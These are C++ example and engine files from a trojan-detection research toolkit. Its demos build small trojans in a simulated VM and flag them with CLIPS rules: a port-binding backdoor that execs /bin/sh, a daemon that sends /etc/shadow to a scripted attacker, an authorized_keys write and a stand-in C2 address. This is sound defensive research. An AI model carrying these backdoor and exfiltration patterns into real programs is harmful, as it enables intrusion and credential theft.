    a.dataSpace("hwbuf", 16);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);
    a.loadArgv(1);                          // ~/.ssh/authorized_keys
    a.openReg(Reg::Eax, GO_CREAT | GO_WRONLY);
    a.mov(Reg::Ebp, Reg::Eax);
    a.writeFd(Reg::Ebp, "pubkey", 33);
    a.closeFd(Reg::Ebp);
    a.cpuid();
    a.leaSym(Reg::Esi, "hwbuf");
    a.store(Reg::Esi, 0, Reg::Eax);
    a.store(Reg::Esi, 4, Reg::Edx);
    a.leaSym(Reg::Edi, "argv_slot");
    a.load(Reg::Ebx, Reg::Edi, 0);
    a.loadArgv(2);                          // hw_report.txt
    a.creatReg(Reg::Eax);
    a.mov(Reg::Ebp, Reg::Eax);
    a.writeFd(Reg::Ebp, "hwbuf", 8);
    a.closeFd(Reg::Ebp);
    a.exit(0);
    auto guest = a.build();

    Hth hth;
    hth.kernel().vfs().addBinary(guest->path, guest);

    //
    // Install the deployment-specific rules (plain CLIPS text).
    //
    hth.secpert().loadRules(R"CLP(
(defrule site_ssh_write "site policy: no writes near .ssh"
  (system_call_io (pid ?pid) (direction WRITE)
                  (target_name ?tname) (target_type FILE)
                  (time ?t) (frequency ?f) (address ?addr))
  (test (neq (str-index ".ssh" ?tname) FALSE))
  =>
  (print-warning 3)
  (printout t "Site policy: write into an SSH configuration path: "
            ?tname crlf)
  (hth-warn 3 "site_ssh_write" ?pid
    (str-cat "write into SSH path " ?tname)))

(defrule site_hw_probe "site policy: hardware identification leak"
  (system_call_io (pid ?pid) (direction WRITE)
                  (source_type HARDWARE) (target_name ?tname))
  =>
  (print-warning 2)
  (printout t "Site policy: processor identification written to "
            ?tname crlf)
  (hth-warn 2 "site_hw_probe" ?pid
    (str-cat "hardware id written to " ?tname)))
)CLP");

    Report report = hth.monitor(
        guest->path,
        {guest->path, "/home/user/.ssh/authorized_keys",
         "hw_report.txt"});

    std::cout << report.transcript << "\n";
    for (const auto &w : report.warnings)
        std::cout << "[" << secpert::severityName(w.severity) << "] "
                  << w.rule << ": " << w.message << "\n";

    //
    // Bonus: the CLIPS engine as a standalone library.
    //
    clips::Environment env;
    env.loadString(
        "(deftemplate alert (slot severity) (slot count))"
        "(defrule escalate"
        "  ?a <- (alert (severity ?s) (count ?c))"
        "  (test (> ?c 3))"
        "  => (retract ?a)"
        "     (assert (page-the-oncall ?s)))");
    env.assertString("(alert (severity HIGH) (count 5))");
    env.run();
    std::cout << "\nstandalone CLIPS: page-the-oncall asserted: "
              << (env.factsByTemplate("page-the-oncall").size() == 1
                      ? "yes" : "no")
              << "\n";

    return report.flagged(secpert::Severity::High) ? 0 : 1;
}
