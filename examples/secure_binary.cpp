/**
 * @file
 * Secure Binary verification (paper Appendix B): statically audit
 * program images for hard-coded resource names before running them.
 *
 * Two images are checked: a trojan embedding a drop-server address
 * and a landing file path, and a "secure binary" that takes every
 * resource name from its inputs.
 */

#include <iostream>

#include "core/SecureBinary.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

const char *
kindName(SecureBinaryFinding::Kind kind)
{
    switch (kind) {
      case SecureBinaryFinding::Kind::FilePath:
        return "file path";
      case SecureBinaryFinding::Kind::SocketAddress:
        return "socket address";
      case SecureBinaryFinding::Kind::RawString:
        return "raw string";
    }
    return "?";
}

void
audit(const char *label, const vm::Image &image)
{
    SecureBinaryReport report = verifySecureBinary(image);
    std::cout << label << " (" << image.path << ")\n"
              << "  strictly secure : "
              << (report.strictlySecure() ? "yes" : "no") << "\n"
              << "  secure (relaxed): "
              << (report.secure() ? "yes" : "no") << "\n";
    for (const auto &f : report.findings)
        std::cout << "    [" << kindName(f.kind) << "] \"" << f.value
                  << "\"\n";
    std::cout << "\n";
}

} // namespace

int
main()
{
    // A trojan: hard-coded landing path and drop address.
    Gasm bad("/audit/trojan.exe");
    bad.dataString("drop", "./payload.bin");
    bad.dataString("c2", "evil.example.com:6667");
    bad.label("main");
    bad.entry("main");
    bad.exit(0);
    auto trojan = bad.build();

    // A secure binary: resource names come only from argv; the one
    // embedded string is not a resource name.
    Gasm good("/audit/clean.exe");
    good.dataString("banner", "hello world");
    good.dataSpace("buf", 64);
    good.label("main");
    good.entry("main");
    good.loadArgv(1);
    good.openReg(Reg::Eax, GO_RDONLY);
    good.exit(0);
    auto clean = good.build();

    audit("TROJAN CANDIDATE", *trojan);
    audit("SECURE CANDIDATE", *clean);

    bool verdicts_ok = !verifySecureBinary(*trojan).secure() &&
                       verifySecureBinary(*clean).secure();
    std::cout << (verdicts_ok ? "verdicts as expected\n"
                              : "UNEXPECTED verdicts\n");
    return verdicts_ok ? 0 : 1;
}
