/**
 * @file
 * An interactive REPL over the embedded CLIPS engine.
 *
 * Feed it constructs and expressions; `:facts` lists working
 * memory, `:run` fires the agenda, `:warnings` shows what the HTH
 * policy would have said (the full Secpert rule base is preloaded,
 * so synthetic events can be experimented with directly):
 *
 * @code
 *   $ echo '(assert (system_call_access (pid 1)
 *            (system_call_name SYS_execve)
 *            (resource_name "/bin/ls") (resource_type FILE)
 *            (resource_origin_name "/apps/evil")
 *            (resource_origin_type BINARY)
 *            (time 10) (frequency 5) (address "0")))
 *           (assert (resolution (status RESOLVE)))
 *           :run' | ./clips_repl
 * @endcode
 */

#include <iostream>
#include <string>

#include "secpert/Secpert.hh"

using namespace hth;

int
main()
{
    secpert::Secpert secpert;
    clips::Environment &env = secpert.env();
    env.setOutput(&std::cout);

    std::cout << "HTH CLIPS REPL — the Secpert policy is loaded.\n"
              << "Commands: :facts :run :warnings :reset :quit\n";

    std::string pending;
    std::string line;
    while (std::getline(std::cin, line)) {
        if (line == ":quit")
            break;
        if (line == ":facts") {
            for (const clips::Fact *f : env.facts())
                std::cout << "f-" << f->id << "  " << f->toString()
                          << "\n";
            continue;
        }
        if (line == ":run") {
            int fired = env.run();
            std::cout << fired << " rule(s) fired\n";
            continue;
        }
        if (line == ":warnings") {
            for (const auto &w : secpert.warnings())
                std::cout << "[" << secpert::severityName(w.severity)
                          << "] " << w.rule << ": " << w.message
                          << "\n";
            std::cout << secpert.warnings().size() << " warning(s)\n";
            continue;
        }
        if (line == ":reset") {
            secpert.reset();
            env.setOutput(&std::cout);
            std::cout << "ok\n";
            continue;
        }

        pending += line;
        pending += "\n";
        // Evaluate once the parentheses balance.
        int depth = 0;
        bool in_string = false;
        for (char c : pending) {
            if (c == '"')
                in_string = !in_string;
            else if (!in_string && c == '(')
                ++depth;
            else if (!in_string && c == ')')
                --depth;
        }
        if (depth > 0)
            continue;   // keep accumulating a multi-line form

        try {
            for (const clips::Sexpr &form :
                 clips::parseSexprs(pending)) {
                const std::string head = form.head();
                if (head == "deftemplate" || head == "defrule" ||
                    head == "defglobal" || head == "deffunction") {
                    env.loadString(form.toString());
                    std::cout << "defined " << head << "\n";
                } else {
                    clips::Bindings binds;
                    clips::Value v = env.eval(form, binds);
                    std::cout << "=> " << v.toString() << "\n";
                }
            }
        } catch (const std::exception &e) {
            std::cout << "error: " << e.what() << "\n";
        }
        pending.clear();
    }
    return 0;
}
