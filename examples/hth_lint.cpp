/**
 * @file
 * hth-lint: the offline front end of the static pre-screening pass.
 *
 * Three modes, each with an optional machine-readable output:
 *
 *   hth_lint [--json]                 lint the built-in Secpert policy
 *   hth_lint [--json] --policy FILE.clp
 *                                     lint a policy file (against the
 *                                     built-in template declarations)
 *   hth_lint [--json] --image FILE.s  assemble an HVM text-assembly
 *                                     guest and print its static audit
 *
 * Exit status: 0 clean, 1 error-severity lint issues / findings of
 * at least MEDIUM, 2 usage or I/O problems. Warnings and INFO/LOW
 * findings are printed but do not fail the run, so the tool can sit
 * in a build pipeline without blocking on advisory output.
 */

#include <fstream>
#include <iostream>
#include <sstream>
#include <string>

#include "analysis/Analyzer.hh"
#include "analysis/Lint.hh"
#include "obs/StatsSink.hh"
#include "secpert/Policy.hh"
#include "support/Logging.hh"
#include "vm/TextAsm.hh"

namespace
{

int
usage()
{
    std::cerr << "usage: hth_lint [--json] "
                 "[--policy FILE.clp | --image FILE.s]"
              << std::endl;
    return 2;
}

bool
readFile(const std::string &path, std::string &out)
{
    std::ifstream in(path, std::ios::binary);
    if (!in)
        return false;
    std::ostringstream ss;
    ss << in.rdbuf();
    out = ss.str();
    return true;
}

std::string
hex(const std::vector<uint8_t> &bytes)
{
    static const char *digits = "0123456789abcdef";
    std::string out;
    for (uint8_t b : bytes) {
        out.push_back(digits[b >> 4]);
        out.push_back(digits[b & 0xf]);
    }
    return out;
}

int
lintSource(const std::string &what, const std::string &source,
           bool json)
{
    using hth::obs::jsonEscape;
    auto issues = hth::analysis::lintPolicy(source);
    bool failed = hth::analysis::hasLintErrors(issues);
    if (json) {
        std::ostringstream os;
        os << "{\"mode\":\"policy\",\"target\":\"" << jsonEscape(what)
           << "\",\"issues\":[";
        bool first = true;
        for (const auto &i : issues) {
            if (!first)
                os << ",";
            first = false;
            os << "{\"severity\":\""
               << (i.isError() ? "error" : "warning")
               << "\",\"construct\":\"" << jsonEscape(i.construct)
               << "\",\"message\":\"" << jsonEscape(i.message)
               << "\"}";
        }
        os << "],\"clean\":" << (failed ? "false" : "true") << "}";
        std::cout << os.str() << std::endl;
        return failed ? 1 : 0;
    }
    if (issues.empty()) {
        std::cout << what << ": clean" << std::endl;
        return 0;
    }
    std::cout << hth::analysis::lintToString(issues);
    return failed ? 1 : 0;
}

std::string
reportToJson(const hth::analysis::StaticReport &report)
{
    using hth::obs::jsonEscape;
    std::ostringstream os;
    os << "{\"mode\":\"image\",\"target\":\""
       << jsonEscape(report.imagePath) << "\",\"blocks\":"
       << report.blockCount
       << ",\"reachable_blocks\":" << report.reachableBlocks
       << ",\"instructions\":" << report.instructionCount
       << ",\"stats\":{\"functions_summarized\":"
       << report.stats.functionsSummarized
       << ",\"paths_explored\":" << report.stats.pathsExplored
       << ",\"solver_iterations\":" << report.stats.solverIterations
       << "},\"findings\":[";
    bool first = true;
    for (const auto &f : report.findings) {
        if (!first)
            os << ",";
        first = false;
        os << "{\"kind\":\"" << hth::analysis::kindName(f.kind)
           << "\",\"level\":" << (int)f.level << ",\"level_name\":\""
           << hth::analysis::levelName(f.level) << "\",\"address\":"
           << f.address << ",\"syscall\":\"" << jsonEscape(f.syscall)
           << "\",\"resource\":\"" << jsonEscape(f.resource)
           << "\",\"detail\":\"" << jsonEscape(f.detail) << "\"";
        if (!f.witness.empty())
            os << ",\"witness\":\"" << hex(f.witness) << "\"";
        os << "}";
    }
    os << "],\"flagged\":"
       << (report.flagged(hth::analysis::Level::Medium) ? "true"
                                                        : "false")
       << "}";
    return os.str();
}

int
auditImage(const std::string &path, bool json)
{
    std::string source;
    if (!readFile(path, source)) {
        std::cerr << "hth_lint: cannot read " << path << std::endl;
        return 2;
    }
    try {
        auto image = hth::vm::assemble(path, source);
        hth::analysis::StaticReport report =
            hth::analysis::analyzeImage(*image);
        if (json)
            std::cout << reportToJson(report) << std::endl;
        else
            std::cout << hth::analysis::reportToString(report);
        return report.flagged(hth::analysis::Level::Medium) ? 1 : 0;
    } catch (const hth::FatalError &e) {
        std::cerr << "hth_lint: " << e.what() << std::endl;
        return 2;
    }
}

} // namespace

int
main(int argc, char **argv)
{
    std::vector<std::string> args(argv + 1, argv + argc);
    bool json = false;
    if (!args.empty() && args[0] == "--json") {
        json = true;
        args.erase(args.begin());
    }

    if (args.empty())
        return lintSource("built-in policy",
                          hth::secpert::policyDeclarations() +
                              hth::secpert::policyRules(),
                          json);

    if (args.size() != 2)
        return usage();
    const std::string &mode = args[0];
    const std::string &path = args[1];

    if (mode == "--policy") {
        std::string source;
        if (!readFile(path, source)) {
            std::cerr << "hth_lint: cannot read " << path
                      << std::endl;
            return 2;
        }
        // User rules load on top of the engine's declarations; lint
        // them the same way so slot checks see the real templates.
        return lintSource(path,
                          hth::secpert::policyDeclarations() + source,
                          json);
    }
    if (mode == "--image")
        return auditImage(path, json);
    return usage();
}
