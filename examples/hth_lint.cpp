/**
 * @file
 * hth-lint: the offline front end of the static pre-screening pass.
 *
 * Three modes:
 *
 *   hth_lint                      lint the built-in Secpert policy
 *   hth_lint --policy FILE.clp    lint a policy file (against the
 *                                 built-in template declarations)
 *   hth_lint --image FILE.s       assemble an HVM text-assembly
 *                                 guest and print its static audit
 *
 * Exit status: 0 clean, 1 lint errors / findings of at least
 * MEDIUM, 2 usage or I/O problems. Warnings and INFO/LOW findings
 * are printed but do not fail the run, so the tool can sit in a
 * build pipeline without blocking on advisory output.
 */

#include <fstream>
#include <iostream>
#include <sstream>
#include <string>

#include "analysis/Analyzer.hh"
#include "analysis/Lint.hh"
#include "secpert/Policy.hh"
#include "support/Logging.hh"
#include "vm/TextAsm.hh"

namespace
{

int
usage()
{
    std::cerr << "usage: hth_lint [--policy FILE.clp | --image FILE.s]"
              << std::endl;
    return 2;
}

bool
readFile(const std::string &path, std::string &out)
{
    std::ifstream in(path, std::ios::binary);
    if (!in)
        return false;
    std::ostringstream ss;
    ss << in.rdbuf();
    out = ss.str();
    return true;
}

int
lintSource(const std::string &what, const std::string &source)
{
    auto issues = hth::analysis::lintPolicy(source);
    if (issues.empty()) {
        std::cout << what << ": clean" << std::endl;
        return 0;
    }
    std::cout << hth::analysis::lintToString(issues);
    return hth::analysis::hasLintErrors(issues) ? 1 : 0;
}

int
auditImage(const std::string &path)
{
    std::string source;
    if (!readFile(path, source)) {
        std::cerr << "hth_lint: cannot read " << path << std::endl;
        return 2;
    }
    try {
        auto image = hth::vm::assemble(path, source);
        hth::analysis::StaticReport report =
            hth::analysis::analyzeImage(*image);
        std::cout << hth::analysis::reportToString(report);
        return report.flagged(hth::analysis::Level::Medium) ? 1 : 0;
    } catch (const hth::FatalError &e) {
        std::cerr << "hth_lint: " << e.what() << std::endl;
        return 2;
    }
}

} // namespace

int
main(int argc, char **argv)
{
    if (argc == 1)
        return lintSource("built-in policy",
                          hth::secpert::policyDeclarations() +
                              hth::secpert::policyRules());

    if (argc != 3)
        return usage();
    std::string mode = argv[1];
    std::string path = argv[2];

    if (mode == "--policy") {
        std::string source;
        if (!readFile(path, source)) {
            std::cerr << "hth_lint: cannot read " << path
                      << std::endl;
            return 2;
        }
        // User rules load on top of the engine's declarations; lint
        // them the same way so slot checks see the real templates.
        return lintSource(path, hth::secpert::policyDeclarations() +
                                    source);
    }
    if (mode == "--image")
        return auditImage(path);
    return usage();
}
