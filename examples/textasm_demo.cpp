/**
 * @file
 * Writing guests as assembly source: the text assembler front end.
 *
 * The same TCP-Wrappers-style backdoor as a reviewable assembly
 * listing, plus the Appendix-B static audit of the assembled image
 * before it ever runs — two lines of defence over one program.
 */

#include <iostream>

#include "core/Hth.hh"
#include "core/SecureBinary.hh"
#include "vm/TextAsm.hh"

using namespace hth;

namespace
{

const char *BACKDOOR_SRC = R"(
; A wrapper daemon with a present for connections on port 421.
.data  bindaddr  "LocalHost:421"
.data  shell     "/bin/sh421"
.space cmdbuf    64
.entry main

main:
    ; socket()
    lea   esi, __sockargs
    movi  edi, 2
    store [esi+0], edi
    movi  edi, 1
    store [esi+4], edi
    mov   ecx, esi
    movi  ebx, 1            ; SOCKOP_socket
    movi  eax, 102          ; SYS_socketcall
    int80
    mov   ebp, eax

    ; bind(fd, "LocalHost:421")
    lea   esi, __sockargs
    store [esi+0], ebp
    lea   edi, bindaddr
    store [esi+4], edi
    mov   ecx, esi
    movi  ebx, 2            ; SOCKOP_bind
    movi  eax, 102
    int80

    ; listen(fd)
    lea   esi, __sockargs
    store [esi+0], ebp
    mov   ecx, esi
    movi  ebx, 4            ; SOCKOP_listen
    movi  eax, 102
    int80

    ; accept(fd)
    lea   esi, __sockargs
    store [esi+0], ebp
    mov   ecx, esi
    movi  ebx, 5            ; SOCKOP_accept
    movi  eax, 102
    int80

    ; the intruder gets a root shell
    lea   ebx, shell
    movi  ecx, 0
    movi  edx, 0
    movi  eax, 11           ; SYS_execve
    int80
    movi  ebx, 1
    movi  eax, 1            ; SYS_exit
    int80

.space __sockargs 16
)";

} // namespace

int
main()
{
    auto image = vm::assemble("/demo/wrapd", BACKDOOR_SRC);

    //
    // Line of defence 1: static Secure Binary audit (Appendix B).
    //
    SecureBinaryReport audit = verifySecureBinary(*image);
    std::cout << "=== Static audit ===\n"
              << "secure binary: " << (audit.secure() ? "yes" : "NO")
              << "\n";
    for (const auto &f : audit.findings)
        std::cout << "  hard-coded: \"" << f.value << "\"\n";

    //
    // Line of defence 2: run it under the monitor with an attacker
    // scripted against the backdoor port.
    //
    Hth hth;
    hth.kernel().vfs().addBinary(image->path, image);
    hth.kernel().net().addHost("intruder.example.net");
    os::RemotePeer intruder;
    intruder.name = "intruder.example.net:421";
    hth.kernel().net().addRemoteClient("LocalHost:421", intruder);

    Report report = hth.monitor(image->path, {image->path});
    std::cout << "\n=== Runtime monitor ===\n" << report.transcript
              << "\nverdict: "
              << secpert::severityName(report.maxSeverity()) << "\n";

    return (!audit.secure() && report.flagged()) ? 0 : 1;
}
