/**
 * @file
 * Cross-session hunting (paper §10, extensions 5 and 6).
 *
 * The paper proposes monitoring a program "across different
 * sessions": when data is downloaded to a file, later executions
 * that *use* that file should be judged in that light. This example
 * runs two separate monitored executions under one HTH session:
 *
 *   run 1 — a downloader fetches bytes from the network into a
 *           user-named file (benign-looking in isolation);
 *   run 2 — another program executes that file.
 *
 * Secpert's cross-session memory connects the two and raises HIGH.
 */

#include <iostream>

#include "core/Hth.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;

int
main()
{
    Hth hth;
    os::Kernel &k = hth.kernel();

    k.net().addHost("mirror.example.com");
    os::RemotePeer mirror;
    mirror.name = "mirror.example.com:80";
    mirror.onConnect = [](os::RemoteConn &c) {
        c.send("ELF-bytes-of-a-handy-tool");
    };
    k.net().addRemoteServer("mirror.example.com:80", mirror);

    //
    // Run 1: the downloader. The landing file name comes from the
    // user, so in isolation this looks like an ordinary download —
    // only a LOW (the mirror's address is hard-coded) is raised,
    // nothing that would block execution.
    //
    Gasm d("/demo/fetch.exe");
    d.dataString("site", "mirror.example.com:80");
    d.dataSpace("argv_slot", 4);
    d.dataSpace("buf", 64);
    d.label("main");
    d.entry("main");
    d.leaSym(Reg::Edi, "argv_slot");
    d.store(Reg::Edi, 0, Reg::Ebx);
    d.sockCreate();
    d.mov(Reg::Ebp, Reg::Eax);
    d.leaSym(Reg::Edx, "site");
    d.sockConnect(Reg::Ebp, Reg::Edx);
    d.leaSym(Reg::Edx, "buf");
    d.sockRecv(Reg::Ebp, Reg::Edx, 63);
    d.mov(Reg::Edi, Reg::Eax);
    d.leaSym(Reg::Edi, "argv_slot");
    d.load(Reg::Ebx, Reg::Edi, 0);
    d.loadArgv(1);
    d.creatReg(Reg::Eax);
    d.mov(Reg::Esi, Reg::Eax);
    d.mov(Reg::Ebx, Reg::Esi);
    d.leaSym(Reg::Ecx, "buf");
    d.movi(Reg::Edx, 25);
    d.sysc(os::NR_write);
    d.exit(0);
    auto fetch = d.build();
    k.vfs().addBinary(fetch->path, fetch);

    Report first = hth.monitor(fetch->path,
                               {fetch->path, "tool.exe"});
    std::cout << "run 1 (download): "
              << (first.flagged() ? "flagged" : "clean") << "\n";

    //
    // Run 2: something executes the downloaded file.
    //
    Gasm r("/demo/run_tool.exe");
    r.dataSpace("argv_slot", 4);
    r.label("main");
    r.entry("main");
    r.loadArgv(1);
    r.execveReg(Reg::Eax);
    r.exit(0);
    auto runner = r.build();
    k.vfs().addBinary(runner->path, runner);

    Report second = hth.monitor(runner->path,
                                {runner->path, "tool.exe"});
    std::cout << "run 2 (execute):  "
              << (second.flagged(secpert::Severity::High)
                      ? "HIGH — executing a downloaded file"
                      : "clean")
              << "\n\n"
              << second.transcript;

    //
    // User feedback (§10 extension 8): the operator reviews the
    // warning, decides tool.exe is a sanctioned download, and
    // acknowledges it; a rerun stays quiet.
    //
    hth.secpert().suppress("exec_downloaded", "tool.exe");
    Report third = hth.monitor(runner->path,
                               {runner->path, "tool.exe"});
    std::cout << "\nrun 3 (after acknowledgement): "
              << third.countByRule("exec_downloaded")
              << " exec_downloaded warnings, "
              << hth.secpert().stats().warningsSuppressed
              << " suppressed\n";

    return second.flagged(secpert::Severity::High) &&
                   third.countByRule("exec_downloaded") ==
                       second.countByRule("exec_downloaded")
               ? 0 : 1;
}
