/**
 * @file
 * HTH quickstart: build a tiny trojan, run it under the monitor,
 * read the verdict.
 *
 * The guest below is a minimal Trojan Horse in the paper's sense:
 * it copies a hard-coded payload into a hard-coded file and then
 * executes a hard-coded program. HTH flags both steps.
 */

#include <iostream>

#include "core/Hth.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;

int
main()
{
    //
    // 1. Write the guest program with the assembler API.
    //
    Gasm a("/demo/trojan.exe");
    a.dataString("payload", "offensive-payload-bytes");
    a.dataString("dropname", "/tmp/.hidden");
    a.dataString("prog", "/bin/ls");
    a.label("main");
    a.entry("main");
    a.creatSym("dropname");             // create the hard-coded file
    a.mov(Reg::Ebp, Reg::Eax);
    a.writeFd(Reg::Ebp, "payload", 23); // hard-coded data into it
    a.closeFd(Reg::Ebp);
    a.execveSym("prog");                // exec a hard-coded program
    a.exit(1);
    auto trojan = a.build();

    //
    // 2. Set up the monitored world and run.
    //
    Hth hth;
    hth.kernel().vfs().addBinary(trojan->path, trojan);
    hth.kernel().vfs().addBinary("/bin/ls", makeLsBinary());
    hth.kernel().vfs().addFile(".", "demo.txt\n");

    Report report = hth.monitor(trojan->path, {trojan->path});

    //
    // 3. Read the verdict.
    //
    std::cout << "=== Secpert transcript ===\n"
              << report.transcript << "\n"
              << "=== Verdict ===\n"
              << "warnings : " << report.warnings.size() << "\n"
              << "severity : "
              << secpert::severityName(report.maxSeverity()) << "\n";
    for (const auto &w : report.warnings)
        std::cout << "  [" << secpert::severityName(w.severity)
                  << "] rule " << w.rule << ": " << w.message << "\n";

    std::cout << "\n=== Fired CLIPS rules ===\n";
    for (const auto &fire : hth.secpert().env().fireTrace())
        std::cout << "  " << fire.rule << "\n";

    return report.flagged() ? 0 : 1;
}
