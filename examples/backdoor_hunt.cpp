/**
 * @file
 * Hunting a backdoor: a daemon opens a server socket on a
 * hard-coded address and lets a remote "attacker" name the file it
 * exfiltrates — the scenario class HTH's information-flow policy is
 * built for (paper §2.2 pattern 2: the malicious code is directed
 * by the remote attacker once a connection is established).
 *
 * Demonstrates the simulated network: scripted remote peers connect
 * to guest servers and exchange data with them.
 */

#include <iostream>

#include "core/Hth.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;

int
main()
{
    //
    // The backdoor daemon: listen on the hard-coded address, read a
    // file name from the attacker, send that file's contents back.
    //
    Gasm a("/demo/backdoor.exe");
    a.dataString("bindaddr", "LocalHost:1337");
    a.dataSpace("namebuf", 64);
    a.dataSpace("filebuf", 128);
    a.dataSpace("conn_slot", 4);
    a.label("main");
    a.entry("main");
    a.sockCreate();
    a.mov(Reg::Ebp, Reg::Eax);
    a.leaSym(Reg::Edx, "bindaddr");
    a.sockBind(Reg::Ebp, Reg::Edx);
    a.sockListen(Reg::Ebp);
    a.sockAccept(Reg::Ebp);
    a.leaSym(Reg::Edi, "conn_slot");
    a.store(Reg::Edi, 0, Reg::Eax);
    a.mov(Reg::Ebp, Reg::Eax);

    // The attacker names the loot file.
    a.leaSym(Reg::Edx, "namebuf");
    a.sockRecv(Reg::Ebp, Reg::Edx, 63);

    // Open it (name originated from the socket!) and exfiltrate.
    a.leaSym(Reg::Eax, "namebuf");
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "filebuf", 127);
    a.mov(Reg::Edx, Reg::Eax);
    a.leaSym(Reg::Edi, "conn_slot");
    a.load(Reg::Ebp, Reg::Edi, 0);
    a.leaSym(Reg::Ecx, "filebuf");
    a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
    a.exit(0);
    auto daemon = a.build();

    //
    // World setup: the attacker connects as soon as the daemon
    // listens, asks for /etc/shadow, and hangs up once served.
    //
    Hth hth;
    os::Kernel &k = hth.kernel();
    k.vfs().addBinary(daemon->path, daemon);
    k.vfs().addFile("/etc/shadow", "root:$1$abcdefgh:19000::\n");
    k.net().addHost("gateway");

    os::RemotePeer attacker;
    attacker.name = "gateway:55555";
    attacker.onConnect = [](os::RemoteConn &c) {
        c.send("/etc/shadow");
    };
    attacker.onData = [](os::RemoteConn &c, const std::string &data) {
        std::cout << "[attacker received " << data.size()
                  << " bytes]\n";
        c.close();
    };
    k.net().addRemoteClient("LocalHost:1337", attacker);

    Report report = hth.monitor(daemon->path, {daemon->path});

    std::cout << "\n" << report.transcript << "\n"
              << "verdict: "
              << (report.flagged(secpert::Severity::High)
                      ? "HIGH-severity backdoor behaviour detected"
                      : "nothing detected?!")
              << "\n";
    return report.flagged(secpert::Severity::High) ? 0 : 1;
}
