/**
 * @file
 * Compiled defrule representation.
 *
 * A rule's left-hand side is a sequence of conditional elements (CEs):
 * pattern CEs (optionally bound to a fact variable with `?f <-`),
 * `test` CEs and `not` CEs. The right-hand side is a sequence of
 * action expressions evaluated with the match bindings.
 */

#ifndef HTH_CLIPS_RULE_HH
#define HTH_CLIPS_RULE_HH

#include <memory>
#include <string>
#include <vector>

#include "clips/Fact.hh"
#include "clips/Sexpr.hh"
#include "clips/Value.hh"

namespace hth::clips
{

/** One term of a slot pattern. */
struct PatTerm
{
    enum class Kind {
        Literal,    //!< constant value that must match exactly
        SingleVar,  //!< ?x — binds / tests one field
        MultiVar,   //!< $?x — binds / tests a run of fields
        Wildcard,   //!< ? — matches one field, binds nothing
        MultiWild,  //!< $? — matches any run, binds nothing
    };

    Kind kind = Kind::Wildcard;
    std::string var;    //!< variable name for *Var kinds
    Value literal;      //!< constant for Literal
};

/** Pattern over one slot. */
struct SlotPattern
{
    int slotIndex = -1;
    std::vector<PatTerm> terms;
};

/** A pattern conditional element. */
struct PatternCE
{
    std::string factVar;        //!< "" when the fact is not bound
    const Template *tmpl = nullptr;
    std::vector<SlotPattern> slotPatterns;
};

/** A conditional element of any kind. */
struct CondElement
{
    enum class Kind
    {
        Pattern,    //!< binds facts and variables
        Test,       //!< boolean expression over bound variables
        Not,        //!< no fact may match
        Exists,     //!< some fact matches; binds nothing
    };

    Kind kind = Kind::Pattern;
    PatternCE pattern;          //!< for Pattern, Not and Exists
    Sexpr testExpr;             //!< for Test
};

/** A compiled rule. */
struct Rule
{
    std::string name;
    std::string comment;
    int salience = 0;
    std::vector<CondElement> lhs;
    std::vector<Sexpr> rhs;
};

} // namespace hth::clips

#endif // HTH_CLIPS_RULE_HH
