/**
 * @file
 * Compiled defrule representation.
 *
 * A rule's left-hand side is a sequence of conditional elements (CEs):
 * pattern CEs (optionally bound to a fact variable with `?f <-`),
 * `test` CEs and `not` CEs. The right-hand side is a sequence of
 * action expressions evaluated with the match bindings.
 */

#ifndef HTH_CLIPS_RULE_HH
#define HTH_CLIPS_RULE_HH

#include <memory>
#include <string>
#include <vector>

#include "clips/Fact.hh"
#include "clips/Sexpr.hh"
#include "clips/Value.hh"

namespace hth::clips
{

/** One term of a slot pattern. */
struct PatTerm
{
    enum class Kind {
        Literal,    //!< constant value that must match exactly
        SingleVar,  //!< ?x — binds / tests one field
        MultiVar,   //!< $?x — binds / tests a run of fields
        Wildcard,   //!< ? — matches one field, binds nothing
        MultiWild,  //!< $? — matches any run, binds nothing
    };

    Kind kind = Kind::Wildcard;
    std::string var;    //!< variable name for *Var kinds
    Value literal;      //!< constant for Literal
};

/** Pattern over one slot. */
struct SlotPattern
{
    int slotIndex = -1;
    std::vector<PatTerm> terms;
};

/** A pattern conditional element. */
struct PatternCE
{
    std::string factVar;        //!< "" when the fact is not bound
    const Template *tmpl = nullptr;
    std::vector<SlotPattern> slotPatterns;
};

/** A conditional element of any kind. */
struct CondElement
{
    enum class Kind
    {
        Pattern,    //!< binds facts and variables
        Test,       //!< boolean expression over bound variables
        Not,        //!< no fact may match
        Exists,     //!< some fact matches; binds nothing
    };

    Kind kind = Kind::Pattern;
    PatternCE pattern;          //!< for Pattern, Not and Exists
    Sexpr testExpr;             //!< for Test

    /** Whether testExpr contains a (bind ...) anywhere: only such
     * tests need a private copy of the bindings while matching. */
    bool testMutates = false;
};

/** A compiled rule. */
struct Rule
{
    std::string name;
    std::string comment;
    int salience = 0;
    std::vector<CondElement> lhs;
    std::vector<Sexpr> rhs;

    /** Definition order; the final agenda tie-breaker, so naive and
     * incremental matching select identically. */
    size_t defIndex = 0;

    /** Templates referenced by any pattern, not or exists CE: a fact
     * change outside this set cannot affect the rule's matches. */
    std::vector<const Template *> refTemplates;

    /** Whether any CE is a test: such rules must also re-match when
     * a global or deffunction changes. */
    bool hasTest = false;
};

} // namespace hth::clips

#endif // HTH_CLIPS_RULE_HH
