#include "clips/Environment.hh"

#include <algorithm>
#include <iostream>

#include "clips/Rete.hh"
#include "support/Logging.hh"

namespace hth::clips
{

Environment::Environment()
{
    installBuiltins();
    rete_ = std::make_unique<ReteNetwork>(*this);
}

Environment::~Environment() = default;

std::ostream &
Environment::output()
{
    return out_ ? *out_ : std::cout;
}

//
// Construct loading
//

void
Environment::loadString(const std::string &source)
{
    for (const auto &form : parseSexprs(source))
        execTopLevel(form);
}

Value
Environment::evalString(const std::string &source)
{
    Bindings binds;
    return eval(parseOneSexpr(source), binds);
}

void
Environment::execTopLevel(const Sexpr &form)
{
    const std::string head = form.head();
    if (head == "deftemplate") {
        compileTemplate(form);
    } else if (head == "defrule") {
        compileRule(form);
